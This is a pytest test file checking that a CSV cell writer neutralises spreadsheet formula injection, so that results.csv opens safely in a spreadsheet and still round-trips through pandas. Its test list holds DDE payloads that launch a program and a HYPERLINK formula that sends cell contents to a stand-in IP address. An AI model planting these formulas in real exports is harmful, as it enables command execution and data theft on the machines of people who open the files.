"""Cells of results.csv: the same for pandas, and nothing to execute for a spreadsheet."""

import csv
import io
import json
import random

import pandas
import pytest

from colab_starter.run.display.csv_cells import read_cell, write_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.7/?"&A1,"all is well")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\ttext",
    "a;=1+1",
    'a;"=1+1',
    "a\t@SUM(1)",
    "a\n-1+1",
    "-x",
    "--retries 2",
    "+49 30 1234",
    "-1e",
]
BEGINNINGS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
PLAIN = [
    "",
    "a",
    "a=1",
    "1-1",
    "-1.5",
    "+3",
    "-.5e-7",
    "-inf",
    "nan",
    "[-1, 2]",
    "{}",
    "a; b",
    "it's",
    'say "x"',
    "1,5",
    '"',
]


def split(line: str, separator: str) -> list[str]:
    """What a spreadsheet that takes this between cells sees; it may see rows in a line."""
    return [cell for row in csv.reader(io.StringIO(line), delimiter=separator) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_execute_is_written_as_json(text: str) -> None:
    assert read_cell(write_cell(text)) == text
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(["1", write_cell(text), "2"])
    for separator in (",", ";", "\t"):
        for cell in split(line.getvalue(), separator):
            assert not cell.lstrip(" \t\r\n\ufeff").startswith(BEGINNINGS), separator


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_stands_there_as_it_is(text: str) -> None:
    assert write_cell(text) == text == read_cell(text)


def test_what_looks_like_json_of_a_text_is_told_from_it() -> None:
    assert write_cell('"x"') == '"\\"x\\""'
    assert read_cell(write_cell('"x"')) == '"x"'


def test_lists_stay_json_when_a_part_of_them_would_be_executed() -> None:
    value = json.dumps(["a;=1+1;b", {"c": ";-1+1"}])
    assert ";" not in write_cell(value)
    assert json.loads(write_cell(value)) == json.loads(value)


@pytest.mark.parametrize("seed", range(50))
def test_pandas_and_read_cell_give_back_any_text(seed: int) -> None:
    pick = random.Random(seed)
    texts = [
        "x" + "".join(pick.choices("=+-@;,\"' \t\n1a[{", k=pick.randint(0, 8)))[pick.randint(0, 1) :] for _ in range(20)
    ]
    table = io.StringIO()
    csv.writer(table, lineterminator="\n").writerows([["text"], *([write_cell(text)] for text in texts)])
    read = pandas.read_csv(io.StringIO(table.getvalue()), dtype=str, keep_default_na=False, skip_blank_lines=False)
    assert [read_cell(cell) for cell in read["text"]] == texts
